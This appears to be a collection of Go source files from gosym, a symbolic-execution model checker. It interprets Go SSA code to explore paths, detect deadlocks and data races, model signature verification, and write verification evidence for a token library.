
// fireIdleTimer: no thread can run; if some thread waits on an unfired timer, time passes until it fires.
func (ex *Exec) fireIdleTimer() bool {
	for _, th := range ex.threads {
		if th.state == 1 && th.sel != nil && !th.sel.done {
			for _, cs := range th.sel.cases {
				if cs.ch != nil && cs.ch.timer && !cs.ch.closed {
					ex.fireTimer(cs.ch)
					return true
				}
			}
		}
	}
	return false
}

// tryCase attempts case i without blocking.
func (ex *Exec) tryCase(th *Thread, cs selCase) (ready bool, v Value, ok bool) {
	c := cs.ch
	if c == nil {
		return false, nil, false
	}
	if cs.send {
		if c.closed {
			panic(targetPanic{ex.rtError("send on closed channel")})
		}
		c.recvq = cleanQ(c.recvq)
		if len(c.recvq) > 0 {
			w := c.recvq[0]
			// race between an unfired timer in the receiver's select and this rendezvous
			if ex.timerMode == 1 {
				for _, oc := range w.sel.cases {
					if oc.ch != nil && oc.ch.timer && !oc.ch.closed {
						if ex.choose("timer-race", 2) == 1 {
							ex.fireTimer(oc.ch)
							return ex.tryCase(th, cs)
						}
						break
					}
				}
			}
			c.recvq = c.recvq[1:]
			w.sel.done = true
			w.sel.chosen = w.caseIdx
			w.sel.recvVal = copyVal(cs.val)
			w.sel.recvOk = true
			if ex.raceLog != nil {
				ex.raceLog.sync(th, w.sel.th)
			}
			ex.makeRunnable(w.sel.th)
			return true, nil, false
		}
		if len(c.buf) < c.cap {
			c.buf = append(c.buf, copyVal(cs.val))
			if ex.raceLog != nil {
				ex.raceLog.release(th, c)
			}
			return true, nil, false
		}
		return false, nil, false
	}
	// receive
	ex.timerPoll(c)
	if len(c.buf) > 0 {
		v := c.buf[0]
		c.buf = c.buf[1:]
		c.sendq = cleanQ(c.sendq)
		if len(c.sendq) > 0 {
			w := c.sendq[0]
			c.sendq = c.sendq[1:]
			c.buf = append(c.buf, w.val)
			w.sel.done = true
			w.sel.chosen = w.caseIdx
			ex.makeRunnable(w.sel.th)
		}
		if ex.raceLog != nil {
			ex.raceLog.acquire(th, c)
		}
		return true, v, true
	}
	c.sendq = cleanQ(c.sendq)
	if len(c.sendq) > 0 {
		w := c.sendq[0]
		c.sendq = c.sendq[1:]
		w.sel.done = true
		w.sel.chosen = w.caseIdx
		if ex.raceLog != nil {
			ex.raceLog.sync(w.sel.th, th)
		}
		ex.makeRunnable(w.sel.th)
		return true, w.val, true
	}
	if c.closed {
		if ex.raceLog != nil {
			ex.raceLog.acquire(th, c)
		}
		return true, zero(c.elemT), false
	}
	return false, nil, false
}

// doSelect runs a select over cases. Returns chosen index (-1 for default), received value, ok.
func (ex *Exec) doSelect(th *Thread, cases []selCase, blocking bool) (int, Value, bool) {
	for i, cs := range cases {
		if ready, v, ok := ex.tryCase(th, cs); ready {
			return i, v, ok
		}
	}
	if !blocking {
		return -1, nil, false
	}
	st := &selectState{cases: cases, th: th}
	any := false
	for i, cs := range cases {
		if cs.ch == nil {
			continue
		}
		any = true
		w := &waiter{sel: st, caseIdx: i, val: copyVal(cs.val)}
		if cs.send {
			cs.ch.sendq = append(cs.ch.sendq, w)
		} else {
			cs.ch.recvq = append(cs.ch.recvq, w)
		}
	}
	th.sel = st
	desc := "select"
	if len(cases) == 1 {
		if cases[0].send {
			desc = "chan send"
		} else {
			desc = "chan receive"
		}
	}
	if !any {
		desc = "select (no cases) / nil channel"
	}
	for !st.done {
		th.block(desc)
	}
	th.sel = nil
	return st.chosen, st.recvVal, st.recvOk
}

func (ex *Exec) chanSend(th *Thread, c *ChanV, v Value) {
	ex.doSelect(th, []selCase{{ch: c, send: true, val: v}}, true)
}

func (ex *Exec) chanRecv(th *Thread, c *ChanV) (Value, bool) {
	_, v, ok := ex.doSelect(th, []selCase{{ch: c}}, true)
	if v == nil && c != nil {
		v = zero(c.elemT)
	}
	return v, ok
}

func (ex *Exec) chanClose(th *Thread, c *ChanV) {
	if c == nil {
		panic(targetPanic{ex.rtError("close of nil channel")})
	}
	if c.closed {
		panic(targetPanic{ex.rtError("close of closed channel")})
	}
	c.closed = true
	if ex.raceLog != nil {
		ex.raceLog.release(th, c)
	}
	c.recvq = cleanQ(c.recvq)
	for _, w := range c.recvq {
		w.sel.done = true
		w.sel.chosen = w.caseIdx
		w.sel.recvVal = zero(c.elemT)
		w.sel.recvOk = false
		if ex.raceLog != nil {
			ex.raceLog.sync(th, w.sel.th)
		}
		ex.makeRunnable(w.sel.th)
	}
	c.recvq = nil
	c.sendq = cleanQ(c.sendq)
	if len(c.sendq) > 0 {
		// blocked senders panic when woken; model: first one panics
		w := c.sendq[0]
		w.sel.done = true
		w.sel.chosen = -2
		ex.makeRunnable(w.sel.th)
	}
}

func (ex *Exec) selectInstr(fr *frame, instr *ssa.Select) Value {
	var cases []selCase
	for _, st := range instr.States {
		c, _ := fr.get(st.Chan).(*ChanV)
		cs := selCase{ch: c, send: st.Dir == types.SendOnly}
		if cs.send {
			cs.val = fr.get(st.Send)
		}
		cases = append(cases, cs)
	}
	idx, v, ok := ex.doSelect(fr.th, cases, instr.Blocking)
	if idx == -2 {
		panic(targetPanic{ex.rtError("send on closed channel")})
	}
	res := Tuple{uint64(uint64(int64(idx))), ok}
	for i, st := range instr.States {
		if st.Dir == types.RecvOnly {
			var rv Value
			if i == idx && v != nil {
				rv = v
			} else {
				rv = zero(st.Chan.Type().Underlying().(*types.Chan).Elem())
			}
			res = append(res, rv)
		}
	}
	return res
}
