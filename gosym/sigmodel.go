package main

import "math/big"

// verifyModel is the ideal-signature meaning of ed25519.Verify for a 32-byte key and 64-byte signature:
// pk is a public key (pk = PUB(INV(pk))) and sig is THE signature of msg under its secret.
func (ex *Exec) verifyModel(pk, msg, sig Slice) Value {
	pkt := ex.bytesTerm(pk)
	var mt *Term
	if msg.len == 0 {
		mt = ex.ts.Const(0, 8)
	} else {
		mt = ex.bytesTerm(msg)
	}
	inv := ex.ts.UF("INV", 256, pkt)
	isKey := ex.ts.Eq(ex.ts.UF("PUB", 256, inv), pkt)
	ex.pubOf(inv) // axiom instance INV(PUB(INV(pk))) = INV(pk)
	good := ex.ts.Eq(ex.bytesTerm(sig), ex.sigOf(inv, mt, msg.len))
	return ex.fromTerm(ex.ts.And(isKey, good))
}

func (ex *Exec) encTerm(vars []Value) *Term {
	parts := make([]*Term, len(vars))
	for i, v := range vars {
		parts[i] = ex.toTerm(v, 8)
	}
	return ex.ts.Concat(parts...)
}

type bigIntT = big.Int

func bigInt(v int64) *big.Int { return big.NewInt(v) }
