package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"
)

// replayMain re-runs a recorded counterexample natively against the current /repo tree.
func replayMain(args []string) int {
	if len(args) < 1 {
		fmt.Println("usage: gosym replay <replay.json>")
		return 2
	}
	b, err := os.ReadFile(args[0])
	if err != nil {
		fmt.Println(err)
		return 2
	}
	var r struct {
		Property string     `json:"property"`
		Package  string     `json:"package"`
		Case     replayCase `json:"case"`
		Sig      string     `json:"signature"`
	}
	if err := json.Unmarshal(b, &r); err != nil {
		fmt.Println(err)
		return 2
	}
	spec := findCheck(r.Property)
	if spec == nil {
		fmt.Println("unknown property", r.Property)
		return 2
	}
	_, nat, err := buildOverlay(spec)
	if err != nil {
		fmt.Println(err)
		return 2
	}
	wd := filepath.Join(outRoot(), "out", "work", "replaycmd")
	_, raw, _ := nativeRun(nat, r.Package, []replayCase{r.Case}, false, wd, 120*time.Second)
	fmt.Println(raw)
	return 0
}
