package main

// Depth-first exploration by re-execution, distributed over worker goroutines (one solver each).

import (
	"fmt"
	"math/big"
	"os"
	"sort"
	"strings"
	"sync"
	"time"

	"golang.org/x/tools/go/ssa"
)

type Worker struct {
	id     int
	P      *Program
	ts     *TermStore
	solver *Solver
	kind   string
	tmo    int
	paths  int
	// accumulated solver statistics (across solver restarts)
	queries, nsat, nunsat, nunknown int
	solveTime                       time.Duration
	solverErrors                    []string
}

func (w *Worker) reset() error {
	if w.solver != nil {
		w.absorb()
		w.solver.Close()
	}
	w.ts = NewTermStore()
	s, err := NewSolver(w.kind, w.ts, w.tmo)
	if err != nil {
		return err
	}
	w.solver = s
	if lp := os.Getenv("GOSYM_SOLVER_LOG"); lp != "" {
		f, _ := os.Create(fmt.Sprintf("%s.%d", lp, w.id))
		s.log = f
	}
	return nil
}

func (w *Worker) absorb() {
	s := w.solver
	w.queries += s.Queries
	w.nsat += s.NSat
	w.nunsat += s.NUnsat
	w.nunknown += s.NUnknown
	w.solveTime += s.SolveTime
	if len(w.solverErrors) < 20 {
		w.solverErrors = append(w.solverErrors, s.errors...)
	}
	s.Queries, s.NSat, s.NUnsat, s.NUnknown, s.SolveTime, s.errors = 0, 0, 0, 0, 0, nil
}

type RunConfig struct {
	Entry      *ssa.Function
	Params     map[string]int
	Workers    int
	Solver     string
	TimeoutMs  int
	MaxSteps   int
	MaxPaths   int
	Deadline   time.Time
	Verbose    bool
	OnlyPrefix []int // replay a single path
	ReadGlobal string // self-test: name of a []string global of the entry's package to read back
}

type RunResult struct {
	Paths        int
	Steps        int64
	ByStatus     map[string]int
	Covers       map[string]int
	Asserts      map[string]int
	Fails        []*AssertFail
	Inconclusive map[string]int
	AbortReasons map[string]int
	Decisions    map[string]int
	Samples      []*PathResult
	Queries      int
	NSat, NUnsat int
	NUnknown     int
	SolveTime    time.Duration
	SolverErrors []string
	Incomplete   string
	FnSteps      map[string]int
	Wall         time.Duration
	EngineErrors []string
	ObsPaths     []*PathResult // completed paths with observations (for concolic cross-check)
	GlobalStrings []string
	CrossPaths    []*PathResult
	crossSeen     int
}

func (P *Program) Explore(cfg RunConfig) *RunResult {
	t0 := time.Now()
	res := &RunResult{ByStatus: map[string]int{}, Covers: map[string]int{}, Asserts: map[string]int{}, Inconclusive: map[string]int{},
		AbortReasons: map[string]int{}, Decisions: map[string]int{}, FnSteps: map[string]int{}}
	var mu sync.Mutex
	cond := sync.NewCond(&mu)
	stack := [][]int{{}}
	if cfg.OnlyPrefix != nil {
		stack = [][]int{cfg.OnlyPrefix}
	}
	active := 0
	stop := false
	nw := cfg.Workers
	if nw < 1 {
		nw = 1
	}
	var wg sync.WaitGroup
	workers := make([]*Worker, nw)
	for i := 0; i < nw; i++ {
		w := &Worker{id: i, P: P, kind: cfg.Solver, tmo: cfg.TimeoutMs}
		if err := w.reset(); err != nil {
			res.EngineErrors = append(res.EngineErrors, err.Error())
			return res
		}
		workers[i] = w
		wg.Add(1)
		go func(w *Worker) {
			defer wg.Done()
			for {
				mu.Lock()
				for len(stack) == 0 && active > 0 && !stop {
					cond.Wait()
				}
				if stop || (len(stack) == 0 && active == 0) {
					mu.Unlock()
					cond.Broadcast()
					return
				}
				prefix := stack[len(stack)-1]
				stack = stack[:len(stack)-1]
				active++
				mu.Unlock()

				pr := w.runPath(cfg, prefix)

				mu.Lock()
				active--
				res.Paths++
				res.Steps += int64(pr.Steps)
				res.ByStatus[pr.Status]++
				for _, c := range pr.Covers {
					res.Covers[c]++
				}
				for k, n := range pr.Asserts {
					res.Asserts[k] += n
				}
				for _, s := range pr.Inconclusive {
					res.Inconclusive[s]++
				}
				for k, n := range pr.DecisionKinds {
					res.Decisions[k] += n
				}
				for k, n := range pr.FnSteps {
					res.FnSteps[k] += n
				}
				if pr.Status == "abort" {
					res.AbortReasons[pr.Reason]++
				}
				if pr.Status == "engine-error" {
					if len(res.EngineErrors) < 5 {
						res.EngineErrors = append(res.EngineErrors, pr.Reason)
					}
				}
				res.Fails = append(res.Fails, pr.Fails...)
				if pr.GlobalStrings != nil {
					res.GlobalStrings = pr.GlobalStrings
				}
				if len(res.Samples) < 8 && pr.Status == "ok" {
					res.Samples = append(res.Samples, pr)
				}
				// reservoir of completed paths that discharged at least one assertion (for the cross-solver diff)
				if pr.Status == "ok" && len(pr.Asserts) > 0 {
					res.crossSeen++
					if len(res.CrossPaths) < 24 {
						res.CrossPaths = append(res.CrossPaths, pr)
					} else if j := int(uint64(res.crossSeen*2654435761) % uint64(res.crossSeen)); j < 24 {
						res.CrossPaths[j] = pr
					}
				}
				if pr.Status == "ok" && !pr.TimerNondet && !pr.UFChoice && len(pr.Observations) > 0 && len(res.ObsPaths) < 4000 {
					res.ObsPaths = append(res.ObsPaths, pr)
				}
				if cfg.OnlyPrefix == nil {
					stack = append(stack, pr.NewBranches...)
				}
				if cfg.MaxPaths > 0 && res.Paths >= cfg.MaxPaths && (len(stack) > 0 || active > 0) {
					stop = true
					res.Incomplete = fmt.Sprintf("path bound %d reached with %d prefixes pending", cfg.MaxPaths, len(stack))
				}
				if !cfg.Deadline.IsZero() && time.Now().After(cfg.Deadline) && (len(stack) > 0 || active > 0) {
					stop = true
					res.Incomplete = fmt.Sprintf("time budget reached with %d prefixes pending", len(stack))
				}
				if cfg.Verbose && res.Paths%5000 == 0 {
					fmt.Printf("  .. %d paths, %d pending, %d fails\n", res.Paths, len(stack), len(res.Fails))
				}
				mu.Unlock()
				cond.Broadcast()
			}
		}(w)
	}
	wg.Wait()
	for _, w := range workers {
		w.absorb()
		w.solver.Close()
		res.Queries += w.queries
		res.NSat += w.nsat
		res.NUnsat += w.nunsat
		res.NUnknown += w.nunknown
		res.SolveTime += w.solveTime
		res.SolverErrors = append(res.SolverErrors, w.solverErrors...)
	}
	res.Wall = time.Since(t0)
	return res
}

func (w *Worker) runPath(cfg RunConfig, prefix []int) *PathResult {
	w.paths++
	if w.paths%300 == 0 || len(w.ts.table) > 400000 {
		if err := w.reset(); err != nil {
			return &PathResult{Status: "engine-error", Reason: err.Error()}
		}
	}
	ex := &Exec{w: w, P: w.P, ts: w.ts, solver: w.solver,
		globals: map[*ssa.Global]*Object{}, initDone: map[*ssa.Package]bool{},
		yieldCh: make(chan yieldMsg), prefix: append([]int{}, prefix...), maxSteps: cfg.MaxSteps,
		protoSnaps: map[string][]Value{}, protoTags: map[string]*ProtoTag{}, fnSteps: map[*ssa.Function]int{},
		bigvals: map[*Object]*Term{}, pubSeen: map[int]bool{}, sigSeen: map[int]bool{}, params: cfg.Params,
		protoExtraCap: 4,
	}
	ex.res = &PathResult{Status: "ok", Asserts: map[string]int{}, DecisionKinds: map[string]int{}}
	base := w.solver.depth
	w.solver.Push()
	func() {
		defer func() {
			if r := recover(); r != nil {
				ex.res.Status = "engine-error"
				ex.res.Reason = fmt.Sprint(r)
			}
		}()
		main := ex.newThread("main", func(th *Thread) {
			ex.call(th, nil, cfg.Entry, nil)
		})
		main.isMain = true
		ex.runThreads()
		if !ex.stopped {
			// quiescent: anything still blocked is stranded forever
			for _, th := range ex.threads {
				if th.state == 1 {
					ex.res.Stranded = append(ex.res.Stranded, fmt.Sprintf("goroutine %d (%s) blocked forever on %s", th.id, th.name, th.blockedOn))
				}
			}
			if len(ex.res.Stranded) > 0 && ex.threads[0].state == 1 {
				ex.res.Status = "deadlock"
				ex.res.Reason = strings.Join(ex.res.Stranded, "; ")
			}
			if len(ex.res.Stranded) > 0 && ex.forbidStranded != "" {
				m, names, vals, _ := ex.witness()
				f := &AssertFail{ID: ex.forbidStranded + ".stranded", Kind: "stranded", Detail: strings.Join(ex.res.Stranded, "; "), Model: m, Inputs: names, Values: vals, Path: append([]int{}, ex.taken...)}
				ex.res.Fails = append(ex.res.Fails, f)
			}
			if ex.raceLog != nil && len(ex.raceLog.races) > 0 {
				m, names, vals, _ := ex.witness()
				for _, r := range ex.raceLog.races {
					f := &AssertFail{ID: ex.raceLog.prop + ".race", Kind: "race", Detail: r, Model: m, Inputs: names, Values: vals, Path: append([]int{}, ex.taken...)}
					ex.res.Fails = append(ex.res.Fails, f)
				}
			}
			if ex.res.Status == "ok" {
				ex.finishObservations()
			}
			if cfg.ReadGlobal != "" && cfg.Entry.Pkg != nil {
				if g, ok := cfg.Entry.Pkg.Members[cfg.ReadGlobal].(*ssa.Global); ok {
					if obj := ex.globals[g]; obj != nil {
						if s, ok := obj.v.(Slice); ok && s.base != nil {
							for i := 0; i < s.len; i++ {
								ex.res.GlobalStrings = append(ex.res.GlobalStrings, fmt.Sprint(s.at(i)))
							}
						}
					}
				}
			}
		}
		ex.killThreads()
	}()
	w.solver.PopTo(base)
	pr := ex.res
	pr.Decisions = append([]int{}, ex.taken...)
	pr.NewBranches = ex.altern
	pr.Steps = ex.steps
	for _, f := range pr.Fails {
		f.Choices = append([]int{}, ex.chooseLog...)
		f.Labels = append([]string{}, ex.labels...)
		f.UFChoice = ex.res.UFChoice
		f.fingerprint()
	}
	if w.P.countFns {
		pr.FnSteps = map[string]int{}
		for f, n := range ex.fnSteps {
			pr.FnSteps[f.String()] += n
		}
	}
	for _, in := range ex.inputs {
		if !in.Aux {
			pr.Inputs = append(pr.Inputs, in.Name)
		}
	}
	return pr
}

// finishObservations concretises symbolic observations and records the witness for concolic replay.
func (ex *Exec) finishObservations() {
	if len(ex.res.Observations) == 0 {
		return
	}
	m, names, vals, ok := ex.witness()
	if !ok {
		return
	}
	_ = m
	ex.res.Witness = map[string]string{}
	for i, n := range names {
		ex.res.Witness[n] = vals[i]
	}
	ex.res.WitnessNames = names
	ex.res.WitnessVals = vals
	ex.res.Choices = append([]int{}, ex.chooseLog...)
	if len(ex.symObs) > 0 {
		// evaluate symbolic observations under the witness model
		r := ex.solver.CheckWith()
		if r == Sat {
			var ts []*Term
			for _, so := range ex.symObs {
				ts = append(ts, so.t)
			}
			// pin the inputs to the witness so that the evaluation is consistent with it
			vs, err := ex.evalUnderWitness(ts)
			if err == nil {
				for i, so := range ex.symObs {
					o := ex.res.Observations[so.idx]
					ex.res.Observations[so.idx] = strings.TrimSuffix(o, "?") + vs[i]
				}
			} else {
				ex.res.Witness = nil
			}
		}
		ex.solver.EndCheck()
	}
}

func (ex *Exec) evalUnderWitness(ts []*Term) ([]string, error) {
	var out []string
	for _, t := range ts {
		v, ok := ex.ts.Eval(t, ex.model, map[int]*big.Int{})
		if !ok {
			return nil, fmt.Errorf("cannot evaluate observation")
		}
		if t.w == 0 {
			out = append(out, fmt.Sprintf("%t", v.Sign() != 0))
		} else if t.w <= 64 {
			out = append(out, fmt.Sprintf("%d", sext64(v.Uint64(), 64)))
		} else {
			out = append(out, v.Text(16))
		}
	}
	return out, nil
}

func (f *AssertFail) fingerprint() {
	d := f.Detail
	// strip volatile parts (goroutine numbers)
	f.Fingerprint = f.ID + "|" + f.Kind + "|" + normalizeDetail(d)
}

func normalizeDetail(d string) string {
	// drop "goroutine N " prefixes
	var sb strings.Builder
	fields := strings.Fields(d)
	for i := 0; i < len(fields); i++ {
		if fields[i] == "goroutine" && i+1 < len(fields) {
			i++
			continue
		}
		sb.WriteString(fields[i])
		sb.WriteByte(' ')
	}
	return strings.TrimSpace(sb.String())
}

func sortedCounts(m map[string]int) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	var out []string
	for _, k := range ks {
		out = append(out, fmt.Sprintf("%s×%d", k, m[k]))
	}
	return out
}
