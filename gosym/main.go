package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "check" {
		os.Exit(checkMain(os.Args[2:]))
	}
	if len(os.Args) > 1 && os.Args[1] == "manifest" {
		os.Exit(manifestMain())
	}
	if len(os.Args) > 1 && os.Args[1] == "replay" {
		os.Exit(replayMain(os.Args[2:]))
	}
	repo := flag.String("repo", "/repo", "repository directory")
	overlay := flag.String("overlay", "", "comma separated rel=src overlay files")
	pkg := flag.String("pkg", "", "import path of the package containing the entry")
	entry := flag.String("entry", "", "entry function")
	workers := flag.Int("workers", 4, "workers")
	solver := flag.String("solver", "z3-new", "solver")
	tmo := flag.Int("timeout", 10000, "per query timeout ms")
	maxSteps := flag.Int("maxsteps", 2000000, "max SSA steps per path")
	maxPaths := flag.Int("maxpaths", 100000, "max paths")
	verbose := flag.Bool("v", false, "verbose")
	params := flag.String("params", "", "k=v,k=v")
	flag.Parse()
	files := map[string]string{}
	for _, kv := range strings.Split(*overlay, ",") {
		if kv == "" {
			continue
		}
		p := strings.SplitN(kv, "=", 2)
		files[p[0]] = p[1]
	}
	ov, err := readOverlay(*repo, files)
	if err != nil {
		fmt.Println("overlay:", err)
		os.Exit(2)
	}
	t0 := time.Now()
	P, err := LoadProgram(*repo, ov, []string{".", "./datalog", "./parser"})
	if err != nil {
		fmt.Println("load:", err)
		os.Exit(2)
	}
	fmt.Printf("loaded in %.1fs\n", time.Since(t0).Seconds())
	P.countFns = true
	P.debugAbort = *verbose
	fn := P.findFunc(*pkg, *entry)
	if fn == nil {
		fmt.Println("entry not found")
		os.Exit(2)
	}
	pm := map[string]int{}
	for _, kv := range strings.Split(*params, ",") {
		if kv == "" {
			continue
		}
		p := strings.SplitN(kv, "=", 2)
		var n int
		fmt.Sscan(p[1], &n)
		pm[p[0]] = n
	}
	res := P.Explore(RunConfig{Entry: fn, Workers: *workers, Solver: *solver, TimeoutMs: *tmo, MaxSteps: *maxSteps, MaxPaths: *maxPaths, Verbose: *verbose, Params: pm})
	fmt.Printf("paths=%d steps=%d status=%v wall=%.1fs queries=%d (sat %d unsat %d unknown %d) solve=%.1fs\n", res.Paths, res.Steps, res.ByStatus, res.Wall.Seconds(), res.Queries, res.NSat, res.NUnsat, res.NUnknown, res.SolveTime.Seconds())
	fmt.Println("covers:", sortedCounts(res.Covers))
	fmt.Println("asserts:", sortedCounts(res.Asserts))
	fmt.Println("decisions:", sortedCounts(res.Decisions))
	if len(res.AbortReasons) > 0 {
		fmt.Println("aborts:", sortedCounts(res.AbortReasons))
	}
	if len(res.Inconclusive) > 0 {
		fmt.Println("inconclusive:", sortedCounts(res.Inconclusive))
	}
	for _, e := range res.EngineErrors {
		fmt.Println("ENGINE ERROR:", e)
	}
	for _, e := range res.SolverErrors {
		fmt.Println("SOLVER:", e)
	}
	if res.Incomplete != "" {
		fmt.Println("INCOMPLETE:", res.Incomplete)
	}
	seen := map[string]bool{}
	for _, f := range res.Fails {
		if seen[f.Fingerprint] {
			continue
		}
		seen[f.Fingerprint] = true
		fmt.Printf("FAIL %s kind=%s detail=%s choices=%v\n   model=%v\n", f.ID, f.Kind, f.Detail, f.Choices, f.Model)
	}
	_ = filepath.Join
}
