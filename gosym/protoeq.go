package main

import (
	"go/types"
)

// protoContentEq: (symbolic) equality of two message snapshots of the same type, as the wire format
// sees them (nil and empty repeated fields coincide).
func (ex *Exec) protoContentEq(t types.Type, a, b Value) Value {
	switch u := t.Underlying().(type) {
	case *types.Struct:
		sa, sb := a.(StructV), b.(StructV)
		var res Value = true
		for i := 0; i < u.NumFields(); i++ {
			if _, _, has := protoTagOf(u, i); !has {
				continue
			}
			res = ex.bAnd(res, ex.protoContentEq(u.Field(i).Type(), sa.f[i], sb.f[i]))
			if c, ok := res.(bool); ok && !c {
				return false
			}
		}
		return res
	case *types.Pointer:
		pa, pb := a.(*Pointer), b.(*Pointer)
		if pa == nil || pb == nil {
			return pa == nil && pb == nil
		}
		return ex.protoContentEq(u.Elem(), pa.raw(), pb.raw())
	case *types.Slice:
		sa, sb := a.(Slice), b.(Slice)
		if sa.len != sb.len {
			return false
		}
		if bt, ok := u.Elem().Underlying().(*types.Basic); ok && bt.Kind() == types.Uint8 {
			if (sa.base == nil) != (sb.base == nil) {
				return false
			}
			if sa.len == 0 {
				return true
			}
			return ex.bytesEq(sa.elems()[sa.off:sa.off+sa.len], sb.elems()[sb.off:sb.off+sb.len])
		}
		var res Value = true
		for i := 0; i < sa.len; i++ {
			res = ex.bAnd(res, ex.protoContentEq(u.Elem(), sa.at(i), sb.at(i)))
			if c, ok := res.(bool); ok && !c {
				return false
			}
		}
		return res
	case *types.Interface:
		ia, ib := a.(Iface), b.(Iface)
		if ia.T == nil || ib.T == nil {
			return ia.T == nil && ib.T == nil
		}
		if !types.Identical(ia.T, ib.T) {
			return false
		}
		return ex.protoContentEq(ia.T, ia.V, ib.V)
	case *types.Basic:
		return ex.equals(t, a, b)
	}
	return false
}
