package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"time"
)

type evRun struct {
	Entry     string         `json:"entry"`
	Params    map[string]int `json:"bounds"`
	Paths     int            `json:"paths"`
	Steps     int64          `json:"ssa_instructions_executed"`
	ByStatus  map[string]int `json:"paths_by_status"`
	Covers    map[string]int `json:"cover_points_hit"`
	Asserts   map[string]int `json:"assertion_sites_checked"`
	Decisions map[string]int `json:"decisions_by_kind"`
	Queries   int            `json:"solver_queries"`
	Sat       int            `json:"sat"`
	Unsat     int            `json:"unsat"`
	Unknown   int            `json:"unknown_or_timeout"`
	SolverS   float64        `json:"solver_wall_s"`
	WallS     float64        `json:"wall_s"`
	Solver    string         `json:"solver"`
	Inconcl   map[string]int `json:"inconclusive,omitempty"`
	Fails     int            `json:"candidate_counterexamples"`
	Functions []string       `json:"functions_interpreted"`
	Samples   []interface{}  `json:"-"`
}

var evCrossChecked int

func buildEvRun(prop string, e EntrySpec, params map[string]int, res *RunResult) evRun {
	solver := e.Solver
	if solver == "" {
		solver = "z3-new"
	}
	r := evRun{Entry: e.Pkg + "." + e.Func, Params: params, Paths: res.Paths, Steps: res.Steps, ByStatus: res.ByStatus, Covers: res.Covers,
		Asserts: res.Asserts, Decisions: res.Decisions, Queries: res.Queries, Sat: res.NSat, Unsat: res.NUnsat, Unknown: res.NUnknown,
		SolverS: res.SolveTime.Seconds(), WallS: res.Wall.Seconds(), Solver: solver, Inconcl: res.Inconclusive, Fails: len(res.Fails)}
	type fc struct {
		n string
		c int
	}
	var fcs []fc
	for n, c := range res.FnSteps {
		fcs = append(fcs, fc{n, c})
	}
	sort.Slice(fcs, func(i, j int) bool { return fcs[i].c > fcs[j].c })
	for i, f := range fcs {
		if i >= 60 {
			break
		}
		r.Functions = append(r.Functions, fmt.Sprintf("%s (%d)", f.n, f.c))
	}
	for i, p := range res.Samples {
		if i >= 3 {
			break
		}
		r.Samples = append(r.Samples, map[string]interface{}{"entry": r.Entry, "decisions": p.Decisions, "observations": p.Observations, "covers": p.Covers, "witness_inputs": p.Witness, "ssa_steps": p.Steps})
	}
	return r
}

func writeEvidenceFile(spec *CheckSpec, tier string, seed int64, runs []evRun, validated, violations, known, unreplayable int, problems []string, loadT, wall time.Duration) {
	states, trans := 0, int64(0)
	obligations, discharged := 0, 0
	var samples []interface{}
	queries := 0
	solverS := 0.0
	for _, r := range runs {
		states += r.Paths
		trans += r.Steps
		for _, n := range r.Asserts {
			obligations += n
		}
		queries += r.Queries
		solverS += r.SolverS
		samples = append(samples, r.Samples...)
	}
	discharged = obligations - violations - unreplayable
	if discharged < 0 {
		discharged = 0
	}
	if len(samples) == 0 {
		samples = append(samples, map[string]interface{}{"note": "no completed path with observations"})
	}
	ev := map[string]interface{}{
		"property_id": spec.Prop,
		"tier":        tier,
		"seed":        seed,
		"level":       "model_checking",
		"wall_s":      wall.Seconds(),
		"violations":  violations,
		"assumptions": spec.Assumptions,
		"coverage": map[string]interface{}{
			"states":                        states,
			"transitions":                   trans,
			"traces_validated_against_impl": validated,
			"samples":                       samples,
			"explanation":                   spec.Explanation,
			"technique":                     "symbolic execution of the real Go code over go/ssa (gosym), path conditions and assertions decided by an SMT solver; counterexamples replayed natively",
			"states_are":                    "completed symbolic paths (each covers every input value satisfying its path condition)",
			"transitions_are":               "SSA instructions interpreted",
			"entries":                       runs,
			"assertion_obligations":         obligations,
			"solver_queries":                queries,
			"solver_wall_s":                 solverS,
			"known_findings_reproduced":     known,
			"cross_solver_paths_rechecked":  evCrossChecked,
			"unreplayable_candidates":       unreplayable,
			"problems":                      problems,
			"models_used":                   spec.Models,
			"load_and_ssa_build_s":          loadT.Seconds(),
			"encoding_regenerated_from":     repoRoot() + " working tree (go/packages + go/ssa at run time)",
		},
	}
	b, _ := json.MarshalIndent(ev, "", " ")
	dir := filepath.Join(outRoot(), "evidence")
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, spec.Prop+".json"), b, 0o644)
}

// outRoot: where evidence and scratch output go (VERIF_OUT overrides it, so that runs against a
// modified copy of the repository do not overwrite the evidence of the real tree).
func outRoot() string {
	if v := os.Getenv("VERIF_OUT"); v != "" {
		return v
	}
	return verifRoot()
}
