package main

func init() {
	checks = append(checks, &CheckSpec{
		Prop:    "C19",
		Harness: hb("c19_race.go"),
		Entries: []EntrySpec{
			{Pkg: "biscuit", Func: "VerifC19Shared", Quick: p(), Thorough: p(), Covers: []string{"ran"}, Race: true},
		},
		Assumptions: append([]string{
			"two goroutines, one operation each, all 55 unordered pairs of {verify, authorize, query, print, get-block-id, create-block+build, append, seal, serialize, revocation-ids} on one shared token (as built, and reloaded from bytes so that decoded byte fields have spare capacity) and shared parsed Fact/Rule/Check values",
			"happens-before argument: the two operations do not synchronise with each other, so a conflicting pair of accesses unordered by happens-before in the one schedule executed is a data race in some interleaving, and absence of such a pair (access sets do not depend on the schedule in the absence of races) is absence for all interleavings; 'same result as alone' then follows from race freedom + C08",
			"sharing a parser.Parser instance is outside (participle internals are not encoded)",
		}, stdAssumptions...),
		Models:      []string{modelSig, modelCodec, modelCtx},
		Explanation: "the interpreter keeps vector clocks (goroutine creation, channel send/receive/close edges) and a last-writer / readers record per memory location; appends into spare capacity are writes to the shared backing array",
		LevelText:   "Bounded model checking with happens-before race detection inside the symbolic interpreter: for every pair of operations no two accesses to the same location (at least one a write) are unordered by happens-before, and each goroutine obtains the result it obtains alone. Violations are replayed natively under the Go race detector.",
		LevelNote:   "Token content fixed and small (spare capacity in the symbol table and in decoded byte buffers is present); the solver's role in this check is limited to the signature-model verdicts.",
		DesignRef:   "DESIGN.md §6 C19",
	})
}
