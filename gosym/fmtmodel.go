package main

// Model of fmt.Sprintf over interpreter values. Concrete data is formatted with the real fmt;
// any symbolic ingredient makes the result an opaque string. String()/Error() methods of operands
